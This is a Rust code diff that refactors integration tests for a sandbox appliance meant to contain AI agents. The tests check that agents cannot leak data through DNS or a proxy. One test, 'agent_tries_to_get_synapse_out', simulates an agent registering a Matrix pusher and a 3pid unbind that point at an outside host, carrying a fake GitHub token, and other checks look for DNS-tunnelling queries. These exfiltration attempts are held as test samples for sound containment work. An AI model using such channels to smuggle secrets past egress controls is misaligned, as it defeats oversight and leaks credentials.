@@ -727,12 +727,7 @@ fn explained_reach(spec: &Path) -> BTreeMap<String, BTreeSet<String>> {
         .unwrap()
         .iter()
         .map(|s| {
-            let services = s["reach"]
-                .as_array()
-                .unwrap()
-                .iter()
-                .map(|r| r["service"].as_str().unwrap().to_string())
-                .collect();
+            let services = crate::support::json_field_strings(&s["reach"], "service");
             (s["name"].as_str().unwrap().to_string(), services)
         })
         .collect()
@@ -1313,33 +1308,29 @@ fn prove(spec_dir: &Path, host_name: &str, suffix: &str) {
     // proxy anyway), never another's.
     let dns_log = fs::read_to_string(scratch.join("outside-dns.log")).unwrap_or_default();
     for sandbox in &networked {
-        let reached = dns_log.contains(&format!("secret-token-{}.", sandbox.name));
         let may = sandbox
             .reach
             .iter()
             .any(|r| r.service == agent_appliance::generator::model::ReachService::Dns);
-        if reached != may {
-            failures.push(format!(
-                "{}: its tunnelling query {} the outside DNS server, but its egress is {:?}:\n{dns_log}",
-                sandbox.name,
-                if reached { "reached" } else { "did not reach" },
-                sandbox.egress
-            ));
-        }
+        failures.extend(outside_dns_mismatch(
+            &dns_log,
+            "secret-token",
+            sandbox,
+            may,
+            "its tunnelling query",
+        ));
     }
     // ... and through squid: it resolves names only for sandboxes with `web`
     // egress; a domain-list sandbox's unlisted name is refused unresolved.
     for sandbox in networked.iter().filter(|s| s.egress.uses_proxy()) {
-        let reached = dns_log.contains(&format!("proxy-secret-{}.", sandbox.name));
         let may = sandbox.egress == Egress::Web;
-        if reached != may {
-            failures.push(format!(
-                "{}: squid {} its unlisted name to the outside DNS server, but its egress is {:?}",
-                sandbox.name,
-                if reached { "sent" } else { "did not send" },
-                sandbox.egress
-            ));
-        }
+        failures.extend(outside_dns_mismatch(
+            &dns_log,
+            "proxy-secret",
+            sandbox,
+            may,
+            "its unlisted name, through squid,",
+        ));
     }
     // The proxy saw and refused what it should (its log, for the record).
     let access = fs::read_to_string(scratch.join("squid/access.log")).unwrap_or_default();
@@ -1356,6 +1347,21 @@ fn prove(spec_dir: &Path, host_name: &str, suffix: &str) {
         failures.len(),
         failures.join("\n")
     );
+}
+
+/// A failure where `sandbox`'s name `<prefix>-<sandbox>.` reached the
+/// outside DNS server (its `dns_log`) though its egress does not allow it
+/// (`may`), or did not though it does; `what` says which query that was.
+fn outside_dns_mismatch(dns_log: &str, prefix: &str, sandbox: &Sandbox, may: bool, what: &str) -> Option<String> {
+    let reached = dns_log.contains(&format!("{prefix}-{}.", sandbox.name));
+    (reached != may).then(|| {
+        format!(
+            "{}: {what} {} the outside DNS server, but its egress is {:?}:\n{dns_log}",
+            sandbox.name,
+            if reached { "reached" } else { "did not reach" },
+            sandbox.egress
+        )
+    })
 }
 
 /// `egress` values the spec gets wrong are located spec errors.
@@ -1483,38 +1489,34 @@ fn agent_tries_to_get_synapse_out(url: &str, register: &Path, shared_secret: &st
         login.str("access_token").unwrap().to_string()
     };
     let (admin, agent) = (token("admin"), token("agent"));
-    let pusher = client
-        .post(
-            "/_matrix/client/v3/pushers/set",
-            Some(&agent),
-            &serde_json::json!({
-                "kind": "http",
-                "app_id": "exfiltrate",
-                "pushkey": "GH_TOKEN=ghp_secret-of-the-agent",
-                "app_display_name": "x",
-                "device_display_name": "x",
-                "lang": "en",
-                "data": { "url": format!("http://{OUTSIDE_HOST}:{port}/_matrix/push/v1/notify") },
-            }),
-        )
-        .unwrap();
+    // A POST as the user of `token`: Synapse's answer.
+    let post = |path: &str, token: &str, body: serde_json::Value| client.post(path, Some(token), &body).unwrap();
+    let pusher = post(
+        "/_matrix/client/v3/pushers/set",
+        &agent,
+        serde_json::json!({
+            "kind": "http",
+            "app_id": "exfiltrate",
+            "pushkey": "GH_TOKEN=ghp_secret-of-the-agent",
+            "app_display_name": "x",
+            "device_display_name": "x",
+            "lang": "en",
+            "data": { "url": format!("http://{OUTSIDE_HOST}:{port}/_matrix/push/v1/notify") },
+        }),
+    );
     eprintln!("pusher registration: {}", pusher.describe());
-    let room = client
-        .post(
-            "/_matrix/client/v3/createRoom",
-            Some(&admin),
-            &serde_json::json!({ "invite": [format!("@agent:{server_name}")] }),
-        )
-        .unwrap();
+    let room = post(
+        "/_matrix/client/v3/createRoom",
+        &admin,
+        serde_json::json!({ "invite": [format!("@agent:{server_name}")] }),
+    );
     assert!(room.ok(), "{}", room.describe());
     let room_id = agent_appliance::on_host::bootstrap::client::segment(room.str("room_id").unwrap());
-    let joined = client
-        .post(
-            &format!("/_matrix/client/v3/rooms/{room_id}/join"),
-            Some(&agent),
-            &serde_json::json!({}),
-        )
-        .unwrap();
+    let joined = post(
+        &format!("/_matrix/client/v3/rooms/{room_id}/join"),
+        &agent,
+        serde_json::json!({}),
+    );
     assert!(joined.ok(), "{}", joined.describe());
     for n in 0..3 {
         let sent = client
@@ -1526,17 +1528,15 @@ fn agent_tries_to_get_synapse_out(url: &str, register: &Path, shared_secret: &st
             .unwrap();
         assert!(sent.ok(), "{}", sent.describe());
     }
-    let unbind = client
-        .post(
-            "/_matrix/client/v3/account/3pid/unbind",
-            Some(&agent),
-            &serde_json::json!({
-                "medium": "email",
-                "address": "secret-of-the-agent@example.org",
-                "id_server": format!("{OUTSIDE_HOST}:{port}"),
-            }),
-        )
-        .unwrap();
+    let unbind = post(
+        "/_matrix/client/v3/account/3pid/unbind",
+        &agent,
+        serde_json::json!({
+            "medium": "email",
+            "address": "secret-of-the-agent@example.org",
+            "id_server": format!("{OUTSIDE_HOST}:{port}"),
+        }),
+    );
     eprintln!("3pid unbind: {}", unbind.describe());
 }
 
